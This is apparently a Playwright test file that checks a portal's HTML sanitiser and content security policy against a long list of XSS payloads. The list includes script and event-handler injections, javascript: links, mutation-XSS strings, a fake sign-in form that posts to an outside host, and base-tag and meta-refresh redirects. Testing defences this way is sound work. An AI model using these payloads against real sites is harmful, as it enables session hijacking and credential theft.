import type { Page } from '@playwright/test'
import { expect, test } from '../support/browser.ts'
import { expectPage } from '../support/enter.ts'
import { loadedAll } from '../support/network.ts'

// Only task details take HTML from a backend. Two guards protect them, the sanitiser and the page's security policy. Each
// is tested alone with every payload.

const RUN = 'alert(1)'

/** Runs by itself. */
const BY_ITSELF = [
  `<script>${RUN}</script>`,
  `<script src=//elsewhere.example/x.js></script>`,
  `<img src=/x onerror=${RUN}>`,
  `<IMG SRC=/x OnErRoR=&#97;lert(1)>`,
  `<img/src=/x/onerror=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=/x onerror=${RUN}></audio>`,
  `<picture><source srcset=/x><img srcset=/x onerror=${RUN}></picture>`,
  `<body onload=${RUN}>x`,
  `<style onload=${RUN}>x</style>`,
  `<object data=/x onerror=${RUN}></object>`,
  `<embed src="javascript:${RUN}">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script>`,
  `<svg><image href=/x onerror=${RUN}>`,
  `<svg><animate attributeName=x dur=1s onbegin=${RUN} />`,
  `<svg><set attributeName=x onbegin=${RUN} />`,
  `<input autofocus onfocus=${RUN}>`,
  `<p contenteditable autofocus onfocus=${RUN}>x`,
  `<details open ontoggle=${RUN}>x`,
  `<style>@keyframes k{}</style><div style="animation:k 1s" onanimationstart=${RUN}>x</div>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<template shadowrootmode=open><img src=/x onerror=${RUN}></template>`,
]

/** Becomes something else when it is parsed a second time, or breaks out of its container. */
const MUTATIONS = [
  `<math><mi><style><img src onerror=${RUN}>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<noscript><p title="</noscript><img src=/x onerror=${RUN}>">`,
  `<textarea><p title="</textarea><img src=/x onerror=${RUN}>">`,
  `<title><p title="</title><img src=/x onerror=${RUN}>">`,
  `<select><template><img src=/x onerror=${RUN}></template></select>`,
  `<table><td><svg><desc><td><img src=/x onerror=${RUN}>`,
  `<svg><foreignObject><p><img src=/x onerror=${RUN}></foreignObject>`,
  `<math><annotation-xml encoding="text/html"><img src=/x onerror=${RUN}>`,
  `<!--><img src=/x onerror=${RUN}>-->`,
  `<![CDATA[><img src=/x onerror=${RUN}>]]>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt><img src=/x onerror=${RUN}//`,
  `"><img src=/x onerror=${RUN}>`,
  `<p>${'<div>'.repeat(600)}<img src=/x onerror=${RUN}>`,
]

/** Runs when it is pressed, submitted or pointed at. */
const PRESSED = [
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<a href=" JaVaScRiPt:${RUN}">x</a>`,
  `<a href="&#106;avascript&colon;${RUN}">x</a>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a></svg>`,
  `<math><mi href="javascript:${RUN}">x</mi></math>`,
  `<a href="#x" onclick=${RUN}>x</a>`,
  `<button onclick=${RUN}>x</button>`,
  `<div onmousedown=${RUN}>x</div>`,
  `<form action="javascript:${RUN}"><input type=submit value=x></form>`,
  `<form><button formaction="javascript:${RUN}">x</button></form>`,
  `<form onsubmit=${RUN}><input type=submit></form>`,
]

/** Runs nothing, but styles, submits, fetches, moves or hides parts of the portal. */
const SHAPING = [
  '<style>body { display: none }</style>',
  '<link rel=stylesheet href=//elsewhere.example/x.css>',
  '<div style="position:fixed;inset:0;background:url(//elsewhere.example/x)">x</div>',
  '<a href=//elsewhere.example>x</a><a href="/\\elsewhere.example">x</a>',
  '<a href="vbscript:msgbox(1)">x</a><a href="data:text/html,x">x</a><object data="data:text/html,x">',
  '<form action=//elsewhere.example><input name=password><button>Sign in again</button></form>',
  '<base href=//elsewhere.example/ target=_top>',
  '<meta http-equiv=refresh content="0;url=//elsewhere.example/">',
  '<img name=getElementById><img id=location><a id=cookie name=cookie>x</a>',
  '<p class=overlay id=main data-state=open role=alert hidden>x</p><dialog open>x</dialog>',
]

const RUNNING = [...BY_ITSELF, ...MUTATIONS, ...PRESSED]
const PAYLOADS = [...RUNNING, ...SHAPING]

/** Notes each payload that runs, in any frame, and blocks and notes each request that leaves the portal. */
async function watch(page: Page) {
  const ran: string[] = []
  const left: string[] = []
  await page.exposeBinding('noteRun', (_, payload: string) => void ran.push(payload))
  await page.addInitScript(() => {
    window.alert = () => void Reflect.get(window, 'noteRun')(Reflect.get(top ?? window, 'tried'))
  })
  await page.route('**://elsewhere.example/**', (route) => {
    left.push(route.request().url())
    return route.abort()
  })
  return { ran, left }
}

/** Presses everything, a frame after it was drawn. Runs in the page. */
async function pressAll(selector: string): Promise<void> {
  // oxlint-disable-next-line unicorn/consistent-function-scoping -- the page knows nothing outside
  const settle = () => new Promise((done) => requestAnimationFrame(() => setTimeout(done)))
  // A form without an address would reload the page.
  addEventListener('submit', (event) => {
    const [button, form] = [event.submitter, event.target as Element]
    if (!button?.hasAttribute('formaction') && !form.hasAttribute('action')) event.preventDefault()
  })
  await settle()
  for (const element of document.querySelectorAll(`${selector} *`)) {
    element.dispatchEvent(new MouseEvent('mousedown', { bubbles: true }))
    element.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }))
    element.dispatchEvent(new SubmitEvent('submit', { bubbles: true, cancelable: true }))
  }
  await settle()
}

/** What remains that styles, submits, runs, moves or takes a name. Runs in the page. */
function leftIn(selector: string): string[] {
  const tag = /^(?:a|b|br|code|div|em|h[234]|i|img|li|ol|p|pre|span|strong|table|t[dhr]|tbody|ul)$/
  const attribute = /^(?:href|src|alt|target|rel|title|loading|tabindex)$/
  const address = /^(?:https?:\/\/|\/(?![/\\]))/
  const left: string[] = []
  // The frame in which a wide table scrolls is the portal's own.
  for (const element of document.querySelectorAll(`${selector} :not(.table-scroll)`)) {
    if (!tag.test(element.localName)) left.push(element.localName)
    for (const { name, value } of element.attributes) {
      const isUnsafe = /^(?:href|src)$/.test(name) && !address.test(value)
      if (isUnsafe || !attribute.test(name)) left.push(`${name}=${value}`)
    }
  }
  return left
}

test.describe('Without the security policy', () => {
  test.use({ bypassCSP: true })

  test('the sanitiser lets no payload in a task’s details run, send, style or submit', async ({
    page,
    portal,
    expectedErrors,
  }) => {
    expectedErrors.push(/Failed to load resource/) // missing pictures are let through
    const { ran, left } = await watch(page)
    await portal.enter('/mentor-tasks', {
      tasks: PAYLOADS.map((payload, index) => ({
        lessonNumber: String(index),
        title: `Task ${index}`,
        details: `<p>Before</p>${payload}`,
      })),
    })
    await expect(page.getByRole('link', { name: 'Task 0' })).toBeVisible()
    const through: string[] = []
    for (const [index, payload] of PAYLOADS.entries()) {
      await page.evaluate(
        ([tried, path]) => {
          Object.assign(window, { tried })
          history.pushState({}, '', path)
        },
        [payload, `/mentor-tasks/${index}`] as const,
      )
      await expectPage(page, `Task ${index}`)
      await page.evaluate(pressAll, 'main .prose-prose')
      const found = await page.evaluate(leftIn, 'main .prose-prose')
      through.push(...found.map((part) => `${payload}: ${part}`))
    }
    await loadedAll(page)
    expect({ ran, left, through }).toEqual({ ran: [], left: [], through: [] })
    await expectPage(page, `Task ${PAYLOADS.length - 1}`)
  })
})

test('the security policy lets no payload run that bypasses the sanitiser', async ({
  page,
  portal,
  expectedErrors,
}) => {
  expectedErrors.push(/./) // each payload that is stopped is reported
  const { ran } = await watch(page)
  await portal.enter('/mentor-tasks')
  for (const payload of RUNNING) {
    await page.evaluate((html) => {
      Object.assign(window, { tried: html })
      const place = document.createElement('div')
      place.className = 'tried'
      place.innerHTML = html
      document.querySelector('main')?.append(place)
    }, payload)
    await page.evaluate(pressAll, '.tried')
    await page.evaluate(() => document.querySelector('.tried')?.remove())
  }
  await loadedAll(page)
  expect(ran).toEqual([])
})

test('a picture in a task’s details tells its host nothing of the page', async ({
  page,
  portal,
}) => {
  const picture = 'https://pictures.example/seen.png'
  await page.route(picture, (route) => route.fulfill({ contentType: 'image/png', body: '' }))
  const seen = page.waitForRequest(picture)
  const details = `<img src="${picture}">`
  await portal.enter('/mentor-tasks/3', { tasks: [{ lessonNumber: '3', details }] })
  expect(await (await seen).headerValue('referer')).toBeNull()
})
